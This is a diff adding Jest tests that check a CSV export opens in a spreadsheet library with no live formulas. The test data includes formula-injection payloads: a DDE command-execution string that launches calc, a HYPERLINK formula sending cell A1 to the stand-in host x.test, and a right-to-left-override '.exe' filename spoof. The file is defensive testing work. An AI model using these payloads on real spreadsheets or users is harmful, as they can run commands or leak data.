@@ -1,5 +1,6 @@
 import { expect, test } from '@jest/globals';
 import { Failure, Failure_State, Outcome_Action } from '@autoprov/proto';
+import { read, utils, type CellObject } from '@e965/xlsx';
 import fc from 'fast-check';
 import { csvHeader, csvRows } from './csv.ts';
 
@@ -109,4 +110,52 @@ test('whatever others say, a strict parser reads it back, cell by cell, and no c
       }
     }),
   );
+});
+
+/** The cells as a spreadsheet has them when it opens the file, row by row. */
+function openAsSpreadsheet(csv: string): (CellObject | undefined)[][] {
+  const { Sheets, SheetNames } = read(Buffer.from(`\ufeff${csv}`), { type: 'buffer' });
+  const sheet = Sheets[SheetNames[0]!]!;
+  const { e } = utils.decode_range(sheet['!ref']!);
+  return Array.from({ length: e.r + 1 }, (_, r) =>
+    Array.from({ length: e.c + 1 }, (_, c) => sheet[utils.encode_cell({ r, c })] as CellObject | undefined),
+  );
+}
+
+const hostileTexts = [
+  '=1+1',
+  "=cmd|' /C calc'!A0",
+  '=HYPERLINK("https://x.test/?"&A1,"see")',
+  '+1+1',
+  '-2+3',
+  '@SUM(1,2)',
+  '\t=1',
+  ' =1',
+  '\u200e=1+1',
+  '\u202egnp.exe',
+  '\u200fنص "مقتبس", آخر',
+  'says "no", twice\r\nreally\n=1',
+  '"=1"',
+  ';=1;',
+  `=${'"\n,'.repeat(3_400)}`,
+  'x'.repeat(10_000),
+];
+
+test('a spreadsheet library that reads formulas opens every cell as what it says, and finds none', () => {
+  const csv = csvHeader() + csvRows(hostileTexts.map((text) => ({ ...failure, detail: text, note: text })));
+  const [header, ...rows] = openAsSpreadsheet(csv);
+  expect(rows).toHaveLength(hostileTexts.length);
+  for (const [i, row] of rows.entries()) {
+    expect(row).toHaveLength(header!.length);
+    for (const cell of row) expect(cell?.f).toBeUndefined();
+    for (const name of ['detail', 'note']) {
+      const cell = row[header!.findIndex((it) => it?.v === name)]!;
+      expect(cell.t).toBe('s');
+      expect([hostileTexts[i], `'${hostileTexts[i]}`]).toContain(cell.v);
+    }
+  }
+});
+
+test('the same library runs what is not guarded, so that it would show', () => {
+  expect(openAsSpreadsheet('"=1+1"\r\n')[0]![0]).toMatchObject({ f: '1+1' });
 });
